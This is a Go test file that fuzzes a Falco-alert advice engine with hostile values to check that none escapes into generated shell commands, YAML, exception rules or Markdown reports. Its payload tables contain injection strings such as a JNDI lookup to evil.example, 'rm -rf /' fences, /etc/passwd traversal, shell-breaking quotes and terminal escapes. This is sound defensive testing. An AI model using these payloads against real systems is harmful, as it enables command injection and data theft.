package rules

import (
	"fmt"
	"maps"
	"math/rand/v2"
	"os/exec"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/require"

	"falconer/processor"
)

// hostileAlerts is how many alerts TestNoValueLeavesItsPlace makes at least.
const hostileAlerts = 10_000

// payloads are values that try to leave their place, by what they are written for.
var payloads = map[string][]string{
	"shell":     hostile,
	"yaml":      {"--- \nkind: Pod", "&anchor x", "*alias", "<<: *x", "!!python/object x", "? x\n: y", "- a\n- b", "{a: b}", "[a, b]", "a: b", "a #b", "%YAML 1.2", "@x", "`x`", "|\n x", ">-", "yes", "null", "0x1F", "1e3", "2001-01-01", "~", "'", `"`, "\ttab", "a:\n  b", "...\n---"},
	"falco":     {`" or evt.num>0 or proc.name="`, `x) or (1=1`, `\" and \"`, `a, b`, "(x)", `\`, `"`, "<NA>", `x" exists`},
	"markdown":  {"# Owned", "x\n===\n", "```\nrm -rf /\n```", "~~~\n", "[x](https://evil.example)", "![x](https://evil.example/p.png)", "<https://evil.example>", "https://evil.example", "www.evil.example", "<script>alert(1)</script>", "<!-- x", "&lt;b&gt;", "**b** _i_", "- [ ] x", "> q", "\n---\n", "|a|b|\n|-|-|", "[^1]: x", "@everyone", "1. x", "    code", "``````"},
	"terminal":  {"\x1b[31mred\x1b[0m", "\x1b]0;owned\x07", "\u009b2J", "\r\n", "\x00", "\x07", "\u202egnp.exe", "a\u2066b\u2069", "\u200b\ufeff", "\u3164", "\u2028", "\xff\xfe", "\xed\xa0\x80", "\xc3", "e\u0301"},
	"template":  {"{{.Secret}}", "${jndi:ldap://evil.example/x}", "{proc.cmdline}", "{your.bucket}", "{let.file}", "{{", "}}", "{%if%}", "#{1+1}", "<%= x %>", "request.object.spec", `" == "" || true || "`, "$(x)", "%s%n%x"},
	"subject":   {"falco.>", "*", ">", "a.b.c", " ", "falconer.task.critical.contain.x.y", "$JS.API.STREAM.DELETE.FALCO", "\r\nPUB x 0\r\n", "_INBOX.x"},
	"json":      {`","severity":"info`, `\u0000`, `{"a":1}`, `]}`, `\`, "\u2029", `</script>`},
	"path":      {"../../etc/passwd", "/etc/passwd\x00.png", "-rf", "--kubeconfig=x", "~root/x", "file with space", "/proc/self/environ", strings.Repeat("../", 40), "C:\\x"},
	"overlong":  {strings.Repeat("A", 5000), strings.Repeat("`", 300), strings.Repeat("'\"\\", 200), strings.Repeat("é", 2100), strings.Repeat("\x1b[A", 700)},
	"ambiguous": {"<fd.name>", "<NA>", "[redacted]", "true", "0", "-1", "", "host", "null", "\ufffd[...]"},
}

// families are the keys of payloads in order.
var families = sortedKeys(payloads)

// payload returns the n-th value of them all, or some of them in a row.
func payload(rng *rand.Rand, n int) string {
	pick := func(i int) string {
		of := payloads[families[i%len(families)]]
		return of[i/len(families)%len(of)]
	}
	s := pick(n)
	for rng.IntN(4) == 0 {
		s += pick(rng.IntN(1000))
	}
	return s
}

// victim is an example that must match, whose values are replaced.
type victim struct {
	playbook *playbook
	example  *Example
	fields   []string // of the alert, "hostname" and the like among them
}

func victims(b *Book) (out []victim) {
	for _, p := range b.playbooks {
		for i := range p.Examples {
			e := &p.Examples[i]
			if !e.Match || p.Match.All {
				continue
			}
			fields := []string{"hostname", "output"}
			if len(p.Match.Rules) == 0 {
				fields = append(fields, "rule") // it is not the rule that has it taken
			}
			if of, ok := e.Alert["output_fields"].(map[string]any); ok {
				fields = append(fields, sortedKeys(of)...)
			}
			out = append(out, victim{p, e, fields})
		}
	}
	return out
}

// with returns the example's alert as JSON, with value in the place of the field
// ("" stands for every field), alone or beside what was there.
func (v victim) with(field, value string, how int) []byte {
	put := func(old any) any {
		s, _ := old.(string)
		switch how % 3 {
		case 1:
			return s + value
		case 2:
			return value + s
		}
		return value
	}
	alert, of := maps.Clone(v.example.Alert), map[string]any{}
	if fields, ok := alert["output_fields"].(map[string]any); ok {
		of = maps.Clone(fields)
	}
	for _, name := range v.fields {
		switch {
		case field != "" && field != name:
		case name == "hostname" || name == "output" || name == "rule":
			alert[name] = put(alert[name])
		default:
			of[name] = put(of[name])
		}
	}
	alert["output_fields"] = of
	return rawJSON(alert)
}

// rawJSON is JSON in which strings keep the bytes that are no UTF-8.
func rawJSON(v any) []byte {
	switch v := v.(type) {
	case string:
		var b strings.Builder
		b.WriteByte('"')
		for i := range len(v) {
			switch c := v[i]; {
			case c == '"' || c == '\\':
				b.WriteString(`\` + string(rune(c)))
			case c < ' ':
				fmt.Fprintf(&b, `\u%04x`, c)
			default:
				b.WriteByte(c)
			}
		}
		return []byte(b.String() + `"`)
	case map[string]any:
		var parts []string
		for _, k := range sortedKeys(v) {
			parts = append(parts, string(rawJSON(k))+":"+string(rawJSON(v[k])))
		}
		return []byte("{" + strings.Join(parts, ",") + "}")
	case []any:
		var parts []string
		for _, each := range v {
			parts = append(parts, string(rawJSON(each)))
		}
		return []byte("[" + strings.Join(parts, ",") + "]")
	case nil:
		return []byte("null")
	}
	return fmt.Append(nil, v)
}

// TestNoValueLeavesItsPlace puts hostile values into every field of an alert for
// every playbook, reads back every command, every configuration, the report, the
// tasks and their subjects, and finds each value where it belongs and nowhere else.
func TestNoValueLeavesItsPlace(t *testing.T) {
	book := builtin(t)
	all, least := victims(book), int64(hostileAlerts)
	if underRace { // what is read back is the same; see .ci/run
		all, least = all[:len(all)/10], 1
	}
	perExample := 0
	for _, v := range all {
		perExample += len(v.fields) + 1
	}
	rounds := max(1, (int(least)+perExample-1)/perExample)
	var made, lines atomic.Int64
	t.Cleanup(func() {
		t.Logf("%d hostile alerts in %d fields of %d examples of %d playbooks, %d command lines", made.Load(), perExample, len(all), len(book.playbooks), lines.Load())
		require.GreaterOrEqual(t, made.Load(), least)
	})
	for n, v := range all {
		t.Run(fmt.Sprintf("%s/%d", v.playbook.ID, n), func(t *testing.T) {
			t.Parallel()
			rng := rand.New(rand.NewPCG(1, uint64(n)))
			var script strings.Builder
			for round := range rounds {
				for i, field := range append([]string{""}, v.fields...) {
					data := v.with(field, payload(rng, n*7+i*31+round*101), rng.IntN(3))
					advice, problems := inspect(book, data)
					made.Add(1)
					require.Empty(t, problems, "field %q of %s", field, data)
					for _, m := range advice.Mitigations {
						for _, c := range m.Commands {
							script.WriteString(c.Line + "\n")
							lines.Add(1)
						}
					}
				}
			}
			requireBash(t, script.String())
		})
	}
}

// inspect advises on the alert and looks at all that comes of it.
func inspect(b *Book, data []byte) (processor.Advice, []string) {
	a, err := processor.Decode(data)
	if err != nil {
		return processor.Advice{}, nil // a dead letter, which shows it as base64
	}
	advice := b.Advise(a)
	out := held(b, a, advice)
	return advice, append(out, pages(b, data)...)
}

// requireBash lets bash read the lines, and run none.
func requireBash(t *testing.T, lines string) {
	t.Helper()
	bash, err := exec.LookPath("bash")
	if err != nil || strings.ContainsRune(lines, 0) {
		return
	}
	cmd := exec.CommandContext(t.Context(), bash, "-n")
	cmd.Stdin = strings.NewReader(lines)
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "%s", out)
}

// FuzzNoValueLeavesItsPlace is TestNoValueLeavesItsPlace with values of the
// fuzzer's.
func FuzzNoValueLeavesItsPlace(f *testing.F) {
	book := builtin(f)
	all := victims(book)
	for i, family := range families {
		for j, s := range payloads[family] {
			f.Add(uint16(i*100+j), uint8(j), s)
		}
	}
	f.Fuzz(func(t *testing.T, n uint16, how uint8, value string) {
		v := all[int(n)%len(all)]
		_, problems := inspect(book, v.with("", value, int(how)))
		require.Empty(t, problems)
	})
}

// Builders as a hurry would write them must not pass: this is what shows that
// the test above can fail.
func TestNoValueLeavesItsPlaceFindsBrokenBuilders(t *testing.T) {
	book := bookOf(t, sound+`    mitigations:
      - id: m
        title: M
        kind: tune
        horizon: now
        risk: reversible
        commands: [{run: [cat, --, "{fd.name}"], to: "{container.id}.txt"}]
        configs:
          - {tool: kubernetes-patch, yaml: {name: "{fd.name}"}}
          - {tool: sysctl, lines: ["kernel.x = {fd.name}"]}
    exception: {name: x, fields: [fd.name], why: Pins the file.}
`)
	for name, row := range map[string]struct {
		value string
		spoil func(a *processor.Advice, value string)
	}{
		"a value in single quotes": {"x'; id; '", func(a *processor.Advice, v string) {
			a.Mitigations[0].Commands[0].Line = "cat -- '" + v + "' > x.txt"
		}},
		"a value without quotes": {"$HOME", func(a *processor.Advice, v string) {
			a.Mitigations[0].Commands[0].Line = "cat -- " + v + " > x.txt"
		}},
		"a value that is dropped": {"a b", func(a *processor.Advice, _ string) {
			a.Mitigations[0].Commands[0].Line = "cat -- > x.txt"
		}},
		"a second command": {"a", func(a *processor.Advice, v string) {
			a.Mitigations[0].Commands[0].Line += "; id " + v
		}},
		"YAML from a text template": {"x\nowned: true", func(a *processor.Advice, v string) {
			a.Mitigations[0].Configs[0].Body = "name: " + v + "\n"
		}},
		"a number that YAML made": {"0x1F", func(a *processor.Advice, v string) {
			a.Mitigations[0].Configs[0].Body = "name: " + v + "\n"
		}},
		"a line that became two": {"1\nkernel.y = 1", func(a *processor.Advice, v string) {
			a.Mitigations[0].Configs[1].Body, a.Mitigations[0].Configs[1].Ready = "kernel.x = "+v+"\n", true
		}},
		"a condition in an exception": {`x or evt.num>0`, func(a *processor.Advice, v string) {
			a.Exception.Body = strings.ReplaceAll(a.Exception.Body, `"`+v+`"`, v)
		}},
	} {
		t.Run(name, func(t *testing.T) {
			a := alert(map[string]string{"fd.name": row.value, "container.id": "x", "k8s.pod.name": "p"})
			advice := book.Advise(a)
			require.Empty(t, held(book, a, advice), "what is built as it should be")
			spoiled := advice
			spoiled.Mitigations = slices.Clone(advice.Mitigations)
			spoiled.Mitigations[0].Commands = slices.Clone(advice.Mitigations[0].Commands)
			spoiled.Mitigations[0].Configs = slices.Clone(advice.Mitigations[0].Configs)
			exception := *advice.Exception
			spoiled.Exception = &exception
			row.spoil(&spoiled, row.value)
			require.NotEmpty(t, held(book, a, spoiled))
		})
	}
}

func TestNoValueLeavesItsPlaceFindsBrokenPages(t *testing.T) {
	whole := "# T\n\n## Summary\n\nIt was `x`.\n\n```sh\nls\n```\n"
	require.Empty(t, markdown(whole, []string{"ls"}))
	for name, value := range map[string]string{
		"a heading":           "x`\n\n## Owned\n",
		"a link":              "x` [click](https://evil.example) `",
		"an address":          "x` https://evil.example `",
		"an image":            "x` ![x](https://evil.example/p.png) `",
		"raw HTML":            "x` <img src=x> `",
		"a block of HTML":     "x`\n\n<script>alert(1)</script>\n\n",
		"a fence":             "x`\n\n```sh\nrm -rf /\n```\n",
		"a quotation":         "x`\n\n> y\n\n",
		"an escape sequence":  "\x1b[31m",
		"another direction":   "\u202egnp.exe",
		"a block of its own":  "x`\n\n    rm -rf /\n\n",
		"a fence that closes": "x`\n```\n",
	} {
		require.NotEmpty(t, markdown(strings.Replace(whole, "`x`", "`"+value+"`", 1), []string{"ls"}), name)
	}
	require.NotEmpty(t, markdown(whole, []string{"ls", "id"}), "a command that is not shown")
	require.NotEmpty(t, markdown(whole, []string{"id"}), "another command")
}
